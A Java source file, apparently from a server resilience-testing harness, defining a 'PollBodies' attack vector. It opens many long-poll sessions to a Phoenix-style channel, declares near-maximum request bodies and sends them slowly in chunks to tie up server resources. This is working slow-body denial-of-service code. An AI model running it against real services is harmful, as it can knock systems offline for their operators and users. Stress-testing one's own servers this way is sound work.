package io.heliodor.interop.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.ByteBuffer;
import java.time.Duration;

/**
 * Sessions that poll send the largest bodies that are allowed, slowly, all at the same time.
 *
 * @param connections that send one
 */
record PollBodies(int connections) implements AttackVector {
    private static final int BODY = 7_900_000;
    private static final int PIECE = 100_000;
    private static final int LINE = 90_000;
    private static final Duration PAUSE = Duration.ofMillis(100);

    @Override
    public void begin(Swarm swarm) {
        String topic = swarm.room(0);
        String line = "[\"1\",\"2\",\"" + topic + "\",\"echo\"," + Frames.payload(LINE) + "]\n";
        ByteBuffer piece = ByteBuffer.wrap((line + " ".repeat(PIECE - line.length() - 1) + "\n").getBytes(UTF_8));
        swarm.keepRaw(
                connections,
                client -> PollSession.open(client, session -> {
                    session.post("[\"1\",\"1\",\"" + topic + "\",\"phx_join\",{}]");
                    session.postHead(BODY);
                    int[] left = {BODY / PIECE};
                    swarm.every(PAUSE, () -> {
                        if (left[0]-- > 0) {
                            client.connection().write(piece.duplicate());
                        }
                    });
                }));
    }
}
